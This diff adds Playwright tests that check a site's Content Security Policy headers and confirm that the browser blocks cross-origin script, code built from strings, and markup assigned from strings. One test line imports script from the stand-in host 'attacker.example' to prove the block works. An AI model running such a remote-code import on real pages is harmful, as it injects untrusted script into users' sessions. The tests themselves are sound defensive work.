@@ -1,0 +1,57 @@
+import type { Page } from '@playwright/test'
+import { openPage } from '../fixtures/open-page'
+import { releasedDocuments } from '../fixtures/released-documents'
+import { releasedPolicies } from '../fixtures/released-policies'
+import { expect, test } from '../fixtures/test'
+
+test('every released document carries its policies before anything that could run', () => {
+  for (const { file, html } of releasedDocuments()) {
+    const policies = releasedPolicies(html)
+    const [first = '', origins = ''] = policies
+    expect.soft(policies, file).toHaveLength(2)
+    for (const directive of [
+      "default-src 'none'",
+      "script-src 'strict-dynamic' 'self' 'sha256-",
+      "base-uri 'none'",
+      "object-src 'none'",
+      "require-trusted-types-for 'script'",
+      "trusted-types 'none'",
+    ]) {
+      expect.soft(first, file).toContain(directive)
+    }
+    expect.soft(origins, file).toMatch(/^script-src 'self'( 'sha256-[\w+/=]+')+$/)
+    expect.soft(first + origins, file).not.toMatch(/unsafe-|\*/)
+    const earlier = html.slice(0, html.indexOf(first))
+    expect.soft(earlier, file).not.toMatch(/<(script|style)/)
+  }
+})
+
+/**
+ * What the browser has against it; forgotten, because here it is what is wanted. A timer calls it:
+ * what a test's driver calls itself may evaluate text.
+ */
+async function refusalOf(page: Page, problems: string[], act: () => unknown) {
+  const called = `new Promise((resolve, reject) => setTimeout(async () => {
+    try { resolve(await (${act.toString()})()) } catch (refusal) { reject(refusal) }
+  }))`
+  await expect(page.evaluate(called)).rejects.toThrow(/./)
+  await expect.poll(() => problems).not.toEqual([])
+  return problems.splice(0).join('\n')
+}
+
+test('code of another origin, code from text and markup from text are refused', async ({
+  page,
+  pageProblems,
+}) => {
+  await openPage(page, '/about')
+  const refused = (act: () => unknown) => refusalOf(page, pageProblems, act)
+  expect(await refused(() => import(String('https://attacker.example/x.js')))).toContain(
+    'attacker.example',
+  )
+  expect(await refused(() => Reflect.construct(Function, ['return 1']))).toContain(
+    'trusted-types-sink Function',
+  )
+  expect(await refused(() => (document.body.innerHTML = '<b>x</b>'))).toContain(
+    'trusted-types-sink Element innerHTML',
+  )
+})
